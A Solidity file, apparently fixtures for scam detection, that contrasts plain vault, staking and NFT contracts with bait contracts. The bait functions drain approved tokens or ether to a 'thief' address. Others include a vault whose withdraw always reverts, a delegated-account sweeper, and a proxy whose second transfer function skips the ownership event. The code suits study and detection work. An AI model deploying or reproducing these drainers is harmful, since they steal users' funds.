// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC4626} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";

/// An honest vault of any token, at an address that no registry lists.
contract PlainVault is ERC4626 {
    constructor(IERC20 asset_) ERC20("Plain vault", "pvUSD") ERC4626(asset_) {}
}

/// Honest staking: what is staked is counted, and no token is given for it.
contract PlainStaking {
    IERC20 public immutable stakingToken;
    mapping(address => uint256) public balanceOf;

    constructor(IERC20 token) {
        stakingToken = token;
    }

    function stake(uint256 amount) external {
        balanceOf[msg.sender] += amount;
        stakingToken.transferFrom(msg.sender, address(this), amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        stakingToken.transfer(msg.sender, amount);
    }
}

/// An honest collection that anybody may mint from, for a price or for nothing.
contract PlainCollection is ERC721 {
    uint256 public next = 1;

    constructor() ERC721("Plain collection", "PLAIN") {}

    function mint(address to, uint256 count) external payable {
        require(msg.value == 0.01 ether * count, "price");
        for (uint256 i = 0; i < count; i++) _mint(to, next++);
    }

    function claimFree() external {
        _mint(msg.sender, next++);
    }
}

/// Notes that change nothing anybody owns.
contract PlainBook {
    mapping(address => bytes32) public noteOf;

    event Noted(address indexed by, bytes32 note);

    function write(bytes32 note) external {
        noteOf[msg.sender] = note;
        emit Noted(msg.sender, note);
    }
}

/// Functions with inviting names that keep or pass on whatever they can reach.
contract Bait {
    address payable immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    function claim() external payable {}

    function claimRewards() external payable {
        Address.sendValue(thief, msg.value);
    }

    function SecurityUpdate() external payable {}

    function connect() external payable {
        Address.sendValue(thief, msg.value);
    }

    function verifyWallet(bytes32) external payable {}

    function mint(uint256) external payable {}

    function deposit(uint256 amount, IERC20 token) external {
        token.transferFrom(msg.sender, thief, amount);
    }

    function stake(IERC20 token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
    }

    function claimAirdrop(IERC20 token) external {
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    function migrate(IERC20[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++)
            tokens[i].transferFrom(msg.sender, address(this), tokens[i].balanceOf(msg.sender));
    }

    function execute(address, uint256, bytes calldata) external payable {}

    function swapExactETHForTokens(uint256, address[] calldata, address, uint256)
        external
        payable
        returns (uint256[] memory amounts)
    {}

    receive() external payable {}
}

/// Takes ether and gives a token that nobody buys.
contract BaitToken is ERC20 {
    constructor() ERC20("Great yield", "gYIELD") {}

    function deposit() external payable {
        _mint(msg.sender, msg.value * 1000);
    }

    function buy(IERC20 token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        _mint(msg.sender, amount * 1e12);
    }
}

/// Looks like a vault and gives nothing back.
contract BaitVault is ERC20 {
    IERC20 public immutable asset;

    constructor(IERC20 asset_) ERC20("Bait vault", "bvUSD") {
        asset = asset_;
    }

    function deposit(uint256 assets, address receiver) external returns (uint256) {
        asset.transferFrom(msg.sender, address(this), assets);
        _mint(receiver, assets);
        return assets;
    }

    function convertToAssets(uint256 shares) external pure returns (uint256) {
        return shares;
    }

    function withdraw(uint256, address, address) external pure returns (uint256) {
        revert("closed");
    }
}

/// What a drained account is delegated to.
contract Sweeper {
    address payable immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {
        Address.sendValue(thief, msg.value);
    }

    function sweep(IERC20 token) external {
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }
}

/// A proxy whose owner may replace its code, without any standard.
contract OwnedProxy {
    address private owner;
    address private implementation;

    event ProxyOwnershipTransferred(address previousOwner, address newOwner);

    constructor(address owner_, address implementation_) {
        owner = owner_;
        implementation = implementation_;
    }

    function transferProxyOwnership(address newOwner) external {
        require(msg.sender == owner, "owner");
        emit ProxyOwnershipTransferred(owner, newOwner);
        owner = newOwner;
    }

    function handOver(address newOwner) external {
        require(msg.sender == owner, "owner");
        owner = newOwner;
    }
}
